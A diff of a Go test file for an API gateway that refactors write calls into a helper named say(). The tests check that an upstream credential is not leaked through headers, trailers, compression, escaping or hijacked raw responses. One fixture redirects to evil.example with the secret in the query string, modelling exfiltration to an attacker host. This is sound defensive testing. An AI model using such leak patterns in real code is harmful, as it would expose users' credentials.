@@ -32,12 +32,12 @@ func TestGateway_credentialKept(t *testing.T) {
 	_, key := s.key(nil)
 	secret := s.upstreamKey
 	sends := func(text string) http.HandlerFunc {
-		return func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, text) } //nolint:errcheck // a test sees
+		return func(w http.ResponseWriter, _ *http.Request) { say(w, text) }
 	}
 	zip := func(text string) string {
 		var b bytes.Buffer
 		z := gzip.NewWriter(&b)
-		io.WriteString(z, text) //nolint:errcheck // into memory
+		say(z, text)
 		must(t, z.Close())
 		return b.String()
 	}
@@ -49,16 +49,16 @@ func TestGateway_credentialKept(t *testing.T) {
 		"echo": {upstreamtest.Echo, nil, "200"},
 		"echo, packed": {func(w http.ResponseWriter, _ *http.Request) {
 			w.Header().Set("Content-Encoding", "gzip")
-			io.WriteString(w, zip(`{"a":"`+secret+`"}`))
-		}, []string{"Accept-Encoding: gzip"}, "200"}, //nolint:errcheck // a test sees
+			say(w, zip(`{"a":"`+secret+`"}`))
+		}, []string{"Accept-Encoding: gzip"}, "200"},
 		"packed unasked": {func(w http.ResponseWriter, _ *http.Request) {
 			w.Header().Set("Content-Encoding", "gzip")
-			io.WriteString(w, zip(secret))
-		}, nil, "200"}, //nolint:errcheck // a test sees
+			say(w, zip(secret))
+		}, nil, "200"},
 		"brotli": {func(w http.ResponseWriter, _ *http.Request) {
 			w.Header().Set("Content-Encoding", "br")
-			io.WriteString(w, "x")
-		}, []string{"Accept-Encoding: br"}, "502 UpstreamError"}, //nolint:errcheck // a test sees
+			say(w, "x")
+		}, []string{"Accept-Encoding: br"}, "502 UpstreamError"},
 		"in a header": {func(w http.ResponseWriter, r *http.Request) { w.Header()["X-Echo"] = r.Header["Authorization"] }, nil, "200"},
 		"as a header": {func(w http.ResponseWriter, _ *http.Request) {
 			w.Header()[strings.NewReplacer("/", "", "+", "", "=", "").Replace(secret)] = []string{"1"}
@@ -66,7 +66,7 @@ func TestGateway_credentialKept(t *testing.T) {
 		}, nil, "200"},
 		"in a trailer": {func(w http.ResponseWriter, _ *http.Request) {
 			w.Header().Set("Trailer", "X-Last, X-Key")
-			io.WriteString(w, "{}") //nolint:errcheck // a test sees
+			say(w, "{}")
 			w.Header().Set("X-Last", "fine")
 			w.Header().Set("X-Key", secret)
 			w.Header().Set(http.TrailerPrefix+"X-Unannounced", secret)
@@ -76,7 +76,7 @@ func TestGateway_credentialKept(t *testing.T) {
 			w.Header().Set("X-Key", secret)
 			w.WriteHeader(http.StatusEarlyHints)
 			w.Header().Del("X-Key")
-			io.WriteString(w, "{}") //nolint:errcheck // a test sees
+			say(w, "{}")
 		}, nil, "200"},
 		"escaped as JSON": {sends(`{"a":"` + strings.ReplaceAll(secret, "/", `\/`) + `"}`), nil, "200"},
 		"escaped as URL":  {sends("https://x/?k=" + url.QueryEscape(secret)), nil, "200"},
@@ -84,8 +84,8 @@ func TestGateway_credentialKept(t *testing.T) {
 		"many times":      {sends(strings.Repeat(secret, 3000)), nil, "200"},
 		"cut off": {func(w http.ResponseWriter, _ *http.Request) {
 			w.Header().Set("Content-Length", "500")
-			io.WriteString(w, "x"+secret)
-		}, nil, "broken"}, //nolint:errcheck // a test sees
+			say(w, "x"+secret)
+		}, nil, "broken"},
 		"redirect": {func(w http.ResponseWriter, _ *http.Request) {
 			w.Header().Set("Location", "https://evil.example/?k="+secret)
 			w.WriteHeader(302)
@@ -113,8 +113,8 @@ func TestGateway_credentialKept(t *testing.T) {
 		"named connection": {func(w http.ResponseWriter, _ *http.Request) {
 			w.Header().Set("Connection", "X-Key")
 			w.Header().Set("X-Key", secret)
-			io.WriteString(w, "{}")
-		}, nil, "200"}, //nolint:errcheck // a test sees
+			say(w, "{}")
+		}, nil, "200"},
 		"bad line":    {hijack("HTTP/1.1 200 " + secret + "\r\nX: \x01" + secret + "\r\n\r\n"), nil, "502 UpstreamError"},
 		"status line": {hijack("HTTP/1.1 200 " + secret + "\r\nContent-Length: 2\r\n\r\n{}"), nil, "200"},
 		"no HTTP":     {hijack(secret + "\r\n\r\n"), nil, "502 UpstreamError"},
@@ -164,8 +164,8 @@ func TestGateway_credentialKept(t *testing.T) {
 func drip(w http.ResponseWriter, text string) {
 	control := http.NewResponseController(w)
 	for i := range len(text) {
-		io.WriteString(w, text[i:i+1]) //nolint:errcheck // the client has gone
-		control.Flush()                //nolint:errcheck // likewise
+		say(w, text[i:i+1])
+		control.Flush()
 	}
 }
 
@@ -177,7 +177,7 @@ func hijack(text string) http.HandlerFunc {
 			panic(err)
 		}
 		defer c.Close()
-		io.WriteString(c, text) //nolint:errcheck // the client has gone
+		say(c, text)
 	}
 }
 
@@ -199,12 +199,12 @@ func TestGateway_untouched(t *testing.T) {
 		for how, send := range map[string]http.HandlerFunc{
 			"at once": func(w http.ResponseWriter, _ *http.Request) {
 				w.Header().Set("Content-Length", fmt.Sprint(len(text)))
-				io.WriteString(w, text)
-			}, //nolint:errcheck // a test sees
+				say(w, text)
+			},
 			"pieces": func(w http.ResponseWriter, _ *http.Request) {
 				for rest := text; rest != ""; {
 					n := min(len(rest), 997)
-					io.WriteString(w, rest[:n]) //nolint:errcheck // a test sees
+					say(w, rest[:n])
 					w.(http.Flusher).Flush()
 					rest = rest[n:]
 				}
@@ -241,11 +241,11 @@ func TestGateway_streams(t *testing.T) {
 					to = gzip.NewWriter(w)
 				}
 				for text := range next {
-					io.WriteString(to, text) //nolint:errcheck // a test sees
+					say(to, text)
 					if z, ok := to.(*gzip.Writer); ok {
-						z.Flush() //nolint:errcheck // a test sees
+						z.Flush()
 					}
-					http.NewResponseController(w).Flush() //nolint:errcheck // a test sees
+					http.NewResponseController(w).Flush()
 				}
 			})
 			r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, s.front.URL+"/v2/tlds/be/info", nil)
